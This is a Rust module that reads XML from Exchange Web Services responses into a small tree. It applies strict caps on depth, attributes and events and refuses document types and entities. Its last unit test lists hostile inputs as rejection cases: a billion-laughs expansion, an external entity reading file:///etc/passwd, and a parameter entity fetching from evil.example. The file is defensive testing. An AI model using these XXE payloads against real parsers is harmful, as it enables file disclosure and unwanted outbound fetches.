//! XML as servers send it: read into a small tree by local names, with caps on everything.
//!
//! No document type, no processing instruction but the declaration, no entity but the five of XML and characters by
//! number. A server that sends something else is not one that we want to understand.

use quick_xml::{
    Reader,
    escape::{resolve_xml_entity, unescape},
    events::{BytesRef, BytesStart, Event},
};

/// The deepest nesting taken; EWS answers stay below 20.
const DEPTH: usize = 64;

/// The most attributes of one element.
const ATTRIBUTES: usize = 64;

/// The most pieces of one document: an answer with a full page of 512 changes has about 5,000.
const PIECES: usize = 50_000;

/// An element with its local name.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Element {
    /// Its name without prefix.
    pub name: String,
    /// Its attributes, names without prefix.
    pub attributes: Vec<(String, String)>,
    /// Its child elements.
    pub children: Vec<Element>,
    /// Its text, that of its children not counted.
    pub text: String,
}

/// Why a text was not read as XML.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct NotRead;

impl Element {
    /// The only child of this name; `None` also when there are several, since then nobody can say which counts.
    pub fn child(&self, name: &str) -> Option<&Self> {
        let mut named = self.children.iter().filter(|child| child.name == name);
        named.next().filter(|_| named.next().is_none())
    }

    /// The text of the only child of this name, blanks cut off.
    pub fn text_of(&self, name: &str) -> Option<&str> {
        self.child(name).map(|child| child.text.trim())
    }

    /// An attribute by its local name.
    pub fn attribute(&self, name: &str) -> Option<&str> {
        self.attributes.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str())
    }

    /// Every element below this one with this name, in document order.
    pub fn all(&self, name: &str) -> Vec<&Self> {
        let mut found = Vec::new();
        for child in &self.children {
            if child.name == name {
                found.push(child);
            }
            found.extend(child.all(name));
        }
        found
    }
}

/// Escapes a text for element content and attribute values. Characters that XML cannot hold are left out.
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if c.is_control() || matches!(c, '\u{fffe}' | '\u{ffff}') => {}
            c => out.push(c),
        }
    }
    out
}

/// Reads a document and gives its root. Errs when it is not well-formed or goes beyond a cap.
pub fn read(bytes: &[u8]) -> Result<Element, NotRead> {
    let text = decode(bytes);
    let mut reader = Reader::from_str(&text);
    let mut open: Vec<Element> = Vec::new();
    let mut root = None;
    for piece in 0.. {
        if piece > PIECES {
            return Err(NotRead);
        }
        match reader.read_event().map_err(|_| NotRead)? {
            Event::Eof => break,
            Event::Decl(_) if piece == 0 => {}
            Event::Comment(_) => {}
            Event::Start(start) => {
                if open.len() >= DEPTH || root.is_some() {
                    return Err(NotRead);
                }
                open.push(element(&start)?);
            }
            Event::Empty(start) => close(element(&start)?, &mut open, &mut root)?,
            Event::End(_) => {
                let element = open.pop().ok_or(NotRead)?;
                close(element, &mut open, &mut root)?;
            }
            Event::Text(text) => add(&text, &mut open)?,
            Event::CData(text) => add(&text, &mut open)?,
            Event::GeneralRef(entity) => add(&resolved(&entity)?, &mut open)?,
            Event::Decl(_) | Event::DocType(_) | Event::PI(_) => return Err(NotRead),
        }
    }
    if open.is_empty() { root.ok_or(NotRead) } else { Err(NotRead) }
}

fn close(element: Element, open: &mut [Element], root: &mut Option<Element>) -> Result<(), NotRead> {
    match open.last_mut() {
        Some(parent) => parent.children.push(element),
        None if root.is_none() => *root = Some(element),
        None => return Err(NotRead),
    }
    Ok(())
}

fn add(text: &str, open: &mut [Element]) -> Result<(), NotRead> {
    match open.last_mut() {
        Some(element) => element.text.push_str(text),
        None if text.trim().is_empty() => {}
        None => return Err(NotRead),
    }
    Ok(())
}

fn element(start: &BytesStart<'_>) -> Result<Element, NotRead> {
    let mut attributes = Vec::new();
    for attribute in start.attributes() {
        let attribute = attribute.map_err(|_| NotRead)?;
        if attributes.len() >= ATTRIBUTES {
            return Err(NotRead);
        }
        let value = unescape(&attribute.value).map_err(|_| NotRead)?;
        attributes.push((attribute.key.local_name().as_ref().to_owned(), value.into_owned()));
    }
    let name = start.local_name().as_ref().to_owned();
    Ok(Element { name, attributes, ..Element::default() })
}

fn resolved(entity: &BytesRef<'_>) -> Result<String, NotRead> {
    if let Some(c) = entity.resolve_char_ref().map_err(|_| NotRead)? {
        return Ok(c.to_string());
    }
    resolve_xml_entity(entity).map(str::to_owned).ok_or(NotRead)
}

/// UTF-8 or, where its mark stands in front, UTF-16. Bytes that are neither are replaced: what matters is ASCII.
fn decode(bytes: &[u8]) -> String {
    let wide = |bytes: &[u8], unit: fn([u8; 2]) -> u16| {
        let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| unit([pair[0], pair[1]])).collect();
        String::from_utf16_lossy(&units)
    };
    match bytes {
        [0xff, 0xfe, rest @ ..] => wide(rest, u16::from_le_bytes),
        [0xfe, 0xff, rest @ ..] => wide(rest, u16::from_be_bytes),
        [0xef, 0xbb, 0xbf, rest @ ..] => String::from_utf8_lossy(rest).into_owned(),
        _ => String::from_utf8_lossy(bytes).into_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_local_and_texts_are_whole() {
        let root = read(
            b"<?xml version=\"1.0\"?><!-- x --><s:a xmlns:s='u' s:k='1&amp;2'>x&lt;<![CDATA[<y>]]>&#65;<b/><c:b>t</c:b></s:a>",
        )
        .expect("a document");
        assert_eq!((root.name.as_str(), root.text.as_str()), ("a", "x<<y>A"));
        assert_eq!(root.attribute("k"), Some("1&2"));
        assert_eq!(root.children.len(), 2);
        assert_eq!(root.child("b"), None, "two of one name are nobody's");
        assert_eq!(root.all("b").len(), 2);
    }

    #[test]
    fn what_is_escaped_comes_back_as_it_was() {
        let odd = "a<b>&\"'\u{1f600} é]]>";
        let doc = format!("<a k=\"{0}\">{0}</a>", escape(odd));
        let root = read(doc.as_bytes()).expect("a document");
        assert_eq!((root.text.as_str(), root.attribute("k")), (odd, Some(odd)));
        assert_eq!(escape("a\0\u{b}b"), "ab");
    }

    #[test]
    fn marks_and_other_encodings_are_read() {
        let doc = "<?xml version=\"1.0\" encoding=\"utf-16\"?><a>é</a>";
        let wide = |unit: fn(u16) -> [u8; 2], mark: [u8; 2]| {
            mark.into_iter().chain(doc.encode_utf16().flat_map(unit)).collect::<Vec<u8>>()
        };
        for bytes in [
            doc.as_bytes().to_vec(),
            [b"\xef\xbb\xbf", doc.as_bytes()].concat(),
            wide(u16::to_le_bytes, [0xff, 0xfe]),
            wide(u16::to_be_bytes, [0xfe, 0xff]),
        ] {
            assert_eq!(read(&bytes).expect("a document").text, "é");
        }
        assert_eq!(read(b"<a>\xff</a>").expect("a document").text, "\u{fffd}");
    }

    #[test]
    fn bombs_and_broken_documents_are_refused() {
        let deep = format!("{}{}", "<a>".repeat(1_000_000), "</a>".repeat(1_000_000));
        let wide = format!("<a {}/>", (0..1_000).map(|n| format!("k{n}='v' ")).collect::<String>());
        let many = format!("<a>{}</a>", "<b/>".repeat(60_000));
        let laughs = "<!DOCTYPE a [<!ENTITY x 'ha'><!ENTITY y '&x;&x;&x;'>]><a>&y;</a>";
        let outside = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>";
        let parameter = "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/x'> %x;]><a/>";
        for wrong in [
            deep.as_str(),
            &wide,
            &many,
            laughs,
            outside,
            parameter,
            "<a>&undeclared;</a>",
            "<a>&#0;</a>",
            "<?run it?><a/>",
            "<a><?run it?></a>",
            "<a/><b/>",
            "<a><b></a></b>",
            "<a",
            "<a k='1' k='2'/>",
            "text",
            "",
        ] {
            assert_eq!(read(wrong.as_bytes()), Err(NotRead), "{}", &wrong[..wrong.len().min(60)]);
        }
    }
}
